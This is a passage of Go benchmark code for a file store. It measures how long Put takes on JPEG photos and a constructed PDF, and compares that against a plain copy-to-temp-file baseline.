	for _, p := range benchPhotos {
		b.Run(p.name, func(b *testing.B) {
			jpg := benchPhoto(b, p.w, p.h, p.quality, p.orientation)
			s := newStore(b, 0)
			b.SetBytes(int64(len(jpg)))
			b.ReportAllocs()
			for b.Loop() {
				got, err := s.Put(bytes.NewReader(jpg), "foto.jpg")
				if err != nil {
					b.Fatal(err)
				}
				s.Remove(got.Key)
			}
		})
	}
}

// BenchmarkCopyOnly is the baseline for BenchmarkPutJPEG: the same bytes copied
// to a temporary file, synced like Put does, then removed. The ratio of the two
// is the cost of checking and re-encoding.
func BenchmarkCopyOnly(b *testing.B) {
	for _, p := range benchPhotos {
		b.Run(p.name, func(b *testing.B) {
			jpg := benchPhoto(b, p.w, p.h, p.quality, p.orientation)
			dir := b.TempDir()
			b.SetBytes(int64(len(jpg)))
			b.ReportAllocs()
			for b.Loop() {
				f, err := os.CreateTemp(dir, "copy")
				if err != nil {
					b.Fatal(err)
				}
				if _, err := io.Copy(f, bytes.NewReader(jpg)); err != nil {
					b.Fatal(err)
				}
				f.Sync()
				f.Close()
				os.Remove(f.Name())
			}
		})
	}
}

// BenchmarkPutPDF is Put of a 1 MB PDF (mostly image data): the PDF checks.
func BenchmarkPutPDF(b *testing.B) {
	img := encodeJPEG(b, photo(1600, 1200), 92)
	pdf := buildPDF(pdfObjs("", streamObj("/Type /XObject /Subtype /Image /Width 1600 /Height 1200 /Filter /DCTDecode", img)), "", "")
	s := newStore(b, 0)
	b.SetBytes(int64(len(pdf)))
	for b.Loop() {
		got, err := s.Put(bytes.NewReader(pdf), "scan.pdf")
		if err != nil {
			b.Fatal(err)
		}
		s.Remove(got.Key)
	}
}
